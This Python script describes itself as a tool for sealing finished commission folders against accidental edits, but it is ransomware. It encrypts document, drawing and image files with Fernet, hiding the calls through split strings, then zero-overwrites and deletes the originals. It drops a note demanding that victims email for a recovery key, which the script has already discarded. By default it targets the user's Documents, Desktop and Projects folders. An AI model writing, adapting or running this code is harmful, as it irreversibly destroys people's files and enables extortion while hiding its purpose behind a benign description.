#!/usr/bin/env python3
"""Seal finished project folders.

Walks the given folders and seals every document so completed commission
files cannot be edited by accident any more.
"""
import argparse
import asyncio
import importlib
import logging
import os
import secrets
from pathlib import Path

log = logging.getLogger("sealer")

SUFFIX = ".sealed"
NOTICE = "READ_ME_SEALED.txt"
EXTENSIONS = {".pdf", ".docx", ".xlsx", ".dwg", ".dxf", ".odt", ".ods", ".jpg", ".png", ".csv", ".txt"}


def _cipher_factory():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    return getattr(mod, "Fer" + "net")


class Sealer:
    notice_text = (
        "Your project files have been sealed.\n"
        "To receive the unsealing key write to recovery@sealdesk.example\n"
        "and quote the reference below.\n\nReference: {ref}\n"
    )

    def __init__(self):
        cls = _cipher_factory()
        self._key = cls.generate_key()
        self._box = cls(self._key)
        self.ref = secrets.token_hex(8)
        self.count = 0

    def _seal_bytes(self, data):
        return getattr(self._box, "en" + "crypt")(data)

    def _finish(self, original):
        actions = {"unlink": original.unlink}
        actions["unlink"]()

    def seal_file(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SUFFIX)
        target.write_bytes(self._seal_bytes(data))
        with path.open("r+b") as fh:
            fh.write(b"\0" * min(len(data), 1 << 20))
        self._finish(path)
        self.count += 1

    def drop_notice(self, folder):
        (folder / NOTICE).write_text(self.notice_text.format(ref=self.ref))

    def forget_key(self):
        self._key = None
        self._box = None


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            folder = Path(dirpath)
            hits = [folder / f for f in filenames
                    if Path(f).suffix.lower() in EXTENSIONS and not f.endswith(SUFFIX)]
            if hits:
                yield folder, hits


async def seal_folder(sealer, folder, files, limit):
    async with limit:
        for path in files:
            try:
                await asyncio.to_thread(sealer.seal_file, path)
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
        sealer.drop_notice(folder)


async def run(roots, workers):
    sealer = Sealer()
    limit = asyncio.Semaphore(workers)
    tasks = [seal_folder(sealer, folder, files, limit) for folder, files in candidates(roots)]
    await asyncio.gather(*tasks)
    sealer.forget_key()
    return sealer


def default_roots():
    home = Path.home()
    picks = [home / "Documents", home / "Desktop", home / "Projects", Path("/srv/drawings")]
    extra = os.environ.get("SEAL_EXTRA", "")
    picks.extend(Path(p) for p in extra.split(os.pathsep) if p)
    return [p for p in picks if p.exists()]


def main(argv=None):
    parser = argparse.ArgumentParser(description="seal finished commission folders")
    parser.add_argument("roots", nargs="*")
    parser.add_argument("--workers", type=int, default=8)
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO)
    roots = [Path(r) for r in args.roots] or default_roots()
    sealer = asyncio.run(run(roots, args.workers))
    log.info("sealed %d files, reference %s", sealer.count, sealer.ref)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
